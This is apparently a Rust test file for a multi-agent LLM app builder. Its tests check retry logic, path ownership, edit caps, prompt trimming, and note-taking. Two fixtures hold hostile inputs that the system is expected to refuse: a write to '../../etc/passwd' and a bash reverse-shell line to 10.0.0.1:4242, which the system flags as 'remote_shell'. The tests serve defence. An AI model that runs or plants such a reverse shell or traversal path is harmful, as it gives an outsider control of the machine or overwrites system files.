use crate::{AgentError, Alarms, AnswerLimits, Ctx, code_monkey, developer, tech_lead, technical_writer};
use domain::agent_io::{Architecture, CodeInput, DocsInput, FileView, NotesInput, PlanInput};
use domain::app_model::{AppModel, Dashboard, SignIn};
use domain::conversation::{Ended, Notes, PastTurn};
use domain::edit::{EditLimits, FileChange};
use domain::language::Language;
use domain::path::RelPath;
use domain::plan::{Plan, Task};
use domain::spec::Spec;
use llm::Scripted;
use std::collections::BTreeMap;

/// A specification whose every text is `words`.
pub(crate) fn spec(words: &str) -> Spec {
    Spec {
        title: words.into(),
        summary: words.into(),
        language: Language::En,
        requirements: vec![],
        assumptions: vec![words.into()],
        left_out: vec![],
    }
}

/// An architecture whose every text is `words`.
pub(crate) fn architecture(words: &str) -> Architecture {
    let model = AppModel {
        name: words.into(),
        tagline: words.into(),
        language: Language::En,
        accent_hue: 1,
        sign_in: SignIn::None,
        entities: vec![],
        dashboard: Dashboard::default(),
    };
    Architecture { template: "react-node".into(), model, pages: vec![], endpoints: vec![] }
}

/// A task under `web/` whose every text is `words`.
pub(crate) fn task(words: &str) -> Task {
    Task {
        number: 1,
        title: words.into(),
        instructions: words.into(),
        depends_on: vec![],
        owned_paths: vec!["web/".into()],
        requirements: vec![1],
    }
}

fn code_input() -> CodeInput {
    CodeInput {
        spec: spec("A"),
        architecture: architecture("A"),
        task: task("A"),
        plan: Plan { epics: vec![] },
        rules: vec![],
        files: vec![],
        paths: vec![],
    }
}

fn writes(path: &str) -> Result<String, llm::LlmError> {
    Ok(format!(r#"{{"summary": "s", "edits": [{{"edit": "write", "path": "{path}", "content": "x"}}]}}"#))
}

fn tries(tries: u32) -> AnswerLimits {
    AnswerLimits { tries, ..AnswerLimits::default() }
}

async fn code(
    answers: Vec<Result<String, llm::LlmError>>,
    limits: AnswerLimits,
) -> (Result<Vec<FileChange>, AgentError>, usize) {
    let model = Scripted::new(answers);
    let ctx = Ctx { provider: &model, limits, alarms: &Alarms::default(), party: 1 };
    let result = code_monkey::write_code(&ctx, code_input(), &BTreeMap::new()).await.map(|(_, changes)| changes);
    (result, model.left())
}

#[tokio::test]
async fn a_bad_answer_goes_back_until_a_good_one_comes() {
    let garbage = Ok("Sure! Here is your code.".into());
    let (changes, left) =
        code(vec![garbage, writes("server/a.ts"), writes("../../etc/passwd"), writes("web/a.ts")], tries(4)).await;
    assert_eq!(changes.unwrap()[0].path.as_str(), "web/a.ts");
    assert_eq!(left, 0);
}

#[tokio::test]
async fn a_model_that_never_answers_well_ends_with_the_last_problem() {
    let (result, left) = code(vec![Ok(String::new()), writes("server/a.ts"), writes("web/a.ts")], tries(2)).await;
    assert!(
        matches!(&result, Err(AgentError::NoUsableAnswer { tries: 2, problem, .. }) if problem.contains("server/a.ts")),
        "{result:?}"
    );
    assert_eq!(left, 1);
}

#[tokio::test]
async fn an_answer_above_the_set_caps_is_asked_again() {
    let two = r#"{"summary": "s", "edits": [
        {"edit": "write", "path": "web/a.ts", "content": "x"}, {"edit": "write", "path": "web/b.ts", "content": "x"}]}"#;
    let edits = EditLimits { files: 1, ..EditLimits::default() };
    let (changes, left) =
        code(vec![Ok(two.into()), writes("web/c.ts")], AnswerLimits { edits, ..AnswerLimits::default() }).await;
    assert_eq!((changes.unwrap()[0].path.as_str(), left), ("web/c.ts", 0));
}

/// Writes code with a model, and returns the outcome and the prompts that came.
async fn code_with(
    model: Scripted,
    limits: AnswerLimits,
    files: &crate::Files,
) -> (Result<Vec<FileChange>, AgentError>, Vec<llm::Prompt>) {
    let ctx = Ctx { provider: &model, limits, alarms: &Alarms::default(), party: 1 };
    let mut input = code_input();
    input.files = files
        .iter()
        .map(|(path, bytes)| FileView { path: path.clone(), content: String::from_utf8(bytes.clone()).unwrap() })
        .collect();
    let result = code_monkey::write_code(&ctx, input, files).await.map(|(_, changes)| changes);
    (result, model.asked())
}

fn file(path: &str, content: &str) -> crate::Files {
    [(RelPath::parse(path).unwrap(), content.as_bytes().to_vec())].into()
}

#[tokio::test]
async fn an_answer_that_was_cut_off_is_gone_on_with() {
    let whole = writes("web/a.ts").unwrap();
    let (start, end) = whole.split_at(30);
    let model = Scripted::new([Ok(format!("{start}…")), Ok(end.to_owned())]).cut_at("…");
    let (changes, asked) = code_with(model, tries(1), &crate::Files::new()).await;
    assert_eq!(changes.unwrap()[0].path.as_str(), "web/a.ts");
    assert_eq!(asked[1].turns[0].said, start);
}

#[tokio::test]
async fn a_model_that_asks_for_a_file_gets_it_and_answers_then() {
    let files = file("web/a.ts", "export const secret = 42;");
    let model = Scripted::new([Ok(r#"{"read": ["web/a.ts", "web/none.ts"]}"#.into()), writes("web/b.ts")]);
    let (changes, asked) = code_with(model, tries(1), &files).await;
    assert_eq!(changes.unwrap()[0].path.as_str(), "web/b.ts");
    let then = &asked[1].turns[0].then;
    assert!(then.contains("export const secret = 42;") && then.contains("no such text file"), "{then}");
}

#[tokio::test]
async fn a_model_that_only_ever_asks_for_files_comes_to_an_end() {
    let files = file("web/a.ts", "x");
    let wish = || Ok(r#"{"read": ["web/a.ts"]}"#.into());
    let (result, asked) = code_with(Scripted::new((0..20).map(|_| wish())), tries(2), &files).await;
    assert!(matches!(result, Err(AgentError::NoUsableAnswer { .. })), "{result:?}");
    assert_eq!(asked.len(), 5);
}

#[tokio::test]
async fn a_prompt_that_is_too_long_for_the_model_is_sent_again_with_less() {
    let long = || Err(llm::LlmError::ContextTooLong { reason: "too long".into(), spent: llm::Spent::default() });
    let files = file("web/a.ts", &"export const value = 1;\n".repeat(2_000));
    let (changes, asked) = code_with(Scripted::new([long(), long(), writes("web/b.ts")]), tries(1), &files).await;
    assert_eq!(changes.unwrap().len(), 1);
    let lengths: Vec<usize> = asked.iter().map(|prompt| prompt.shared.len() + prompt.user.len()).collect();
    assert!(lengths[0] > lengths[2] && lengths[2] > 500, "{lengths:?}");
    let endless = Scripted::new((0..40).map(|_| long()));
    let (result, _) = code_with(endless, tries(1), &files).await;
    assert!(matches!(result, Err(AgentError::Llm(llm::LlmError::ContextTooLong { .. }))), "{result:?}");
}

#[tokio::test]
async fn a_model_that_reads_little_gets_outlines() {
    let files = file("web/a.ts", &format!("export function total() {{\n{}}}\n", "    work();\n".repeat(4_000)));
    let small = llm::Abilities { context: 8_000, output: 2_000 };
    let (changes, asked) = code_with(Scripted::new([writes("web/b.ts")]).able(small), tries(1), &files).await;
    assert_eq!(changes.unwrap().len(), 1);
    let user = &asked[0].shared;
    assert!(user.contains("outline of web/a.ts") && user.contains("1: export function total()"), "{user}");
    assert!(!user.contains("work();"), "{user}");
}

#[tokio::test]
async fn calls_for_one_answer_have_one_end_whatever_they_are_for() {
    let bad = || Ok("no".to_owned());
    let limits = AnswerLimits { tries: 50, calls: 4, ..AnswerLimits::default() };
    let (result, asked) = code_with(Scripted::new((0..50).map(|_| bad())), limits, &crate::Files::new()).await;
    assert!(matches!(result, Err(AgentError::NoUsableAnswer { tries: 4, .. })), "{result:?}");
    assert_eq!(asked.len(), 4);
}

#[tokio::test]
async fn a_file_that_an_app_must_not_hold_is_refused_and_noted() {
    let bad = r#"{"summary": "s", "edits": [{"edit": "write", "path": "web/a.sh", "content": "bash -i >& /dev/tcp/10.0.0.1/4242 0>&1\n"}]}"#;
    let (model, alarms) = (Scripted::new([Ok(bad.into()), writes("web/b.ts")]), Alarms::default());
    let ctx = Ctx { provider: &model, limits: tries(2), alarms: &alarms, party: 1 };
    let (_, changes) = code_monkey::write_code(&ctx, code_input(), &BTreeMap::new()).await.unwrap();
    assert_eq!(changes[0].path.as_str(), "web/b.ts");
    assert!(model.asked()[1].turns[0].then.contains("must not hold"));
    let noted = alarms.take();
    assert_eq!(noted.iter().map(|danger| danger.kind.as_str()).collect::<Vec<_>>(), ["remote_shell"]);
    assert_eq!(alarms.take(), []);
}

#[tokio::test]
async fn only_the_last_bad_answer_is_shown_back() {
    let model = Scripted::new([Ok("first bad".into()), Ok("second bad".into()), writes("web/b.ts")]);
    let (_, asked) = code_with(model, tries(3), &crate::Files::new()).await;
    let said: Vec<&str> = asked[2].turns.iter().map(|turn| turn.said.as_str()).collect();
    assert_eq!(said, ["second bad"]);
}

#[tokio::test]
async fn a_plan_with_shared_paths_is_refused() {
    let task = |number| {
        format!(
            r#"{{"number":{number},"title":"t","instructions":"","depends_on":[],"owned_paths":["web/"],"requirements":[]}}"#
        )
    };
    let plan = format!(r#"{{"epics":[{{"title":"e","tasks":[{},{}]}}]}}"#, task(1), task(2));
    let model = Scripted::new([Ok(plan)]);
    let ctx = Ctx { provider: &model, limits: tries(1), alarms: &Alarms::default(), party: 1 };
    let input = PlanInput { spec: spec("A"), architecture: architecture("A"), existing_paths: vec![] };
    assert!(matches!(tech_lead::plan(&ctx, input).await, Err(AgentError::NoUsableAnswer { .. })));
}

#[tokio::test]
async fn the_technical_writer_writes_the_readme_only() {
    let model = Scripted::new([writes("server/app.ts"), writes("README.md")]);
    let ctx = Ctx { provider: &model, limits: tries(2), alarms: &Alarms::default(), party: 1 };
    let input = DocsInput { spec: spec("A"), architecture: architecture("A"), verdicts: vec![], readme: None };
    let (_, changes) = technical_writer::write_docs(&ctx, input, &BTreeMap::new()).await.unwrap();
    assert_eq!(changes[0].path.as_str(), "README.md");
}

async fn notes(answers: Vec<Result<String, llm::LlmError>>) -> (Result<Notes, AgentError>, usize) {
    let model = Scripted::new(answers);
    let ctx = Ctx { provider: &model, limits: tries(2), alarms: &Alarms::default(), party: 1 };
    let turns =
        vec![PastTurn::new("Add a phone", Ended::Made, "Added it"), PastTurn::new("Send mail", Ended::Refused, "")];
    let notes = Notes { later: vec!["A map".into()], ..Notes::default() };
    let taken = developer::take_notes(&ctx, NotesInput { notes, turns }).await;
    (taken, model.left())
}

#[tokio::test]
async fn notes_that_are_too_long_go_back_and_shorter_ones_are_taken() {
    let with = |note: &str| Ok(format!(r#"{{"decisions": ["{note}"], "wording": [], "not_made": [], "later": []}}"#));
    let (taken, left) = notes(vec![with(&"a".repeat(400)), with("People have a phone")]).await;
    assert_eq!((taken.unwrap().decisions, left), (vec!["People have a phone".to_owned()], 0));
}

#[tokio::test]
async fn where_a_model_takes_no_notes_the_requests_become_lines() {
    let (taken, left) = notes(vec![Ok("Sure!".into()), Ok("{}".into()), Ok("{}".into())]).await;
    let taken = taken.unwrap();
    assert_eq!(
        (taken.decisions, taken.not_made),
        (vec!["Add a phone: Added it".to_owned()], vec!["Send mail".to_owned()])
    );
    assert_eq!((taken.later, left), (vec!["A map".to_owned()], 1));
}

#[tokio::test]
async fn notes_wait_for_a_model_that_is_away() {
    let away = llm::LlmError::Malformed { reason: "a page instead of an answer".into() };
    let (taken, _) = notes(vec![Err(away)]).await;
    assert!(matches!(taken, Err(AgentError::Llm(_))), "{taken:?}");
}
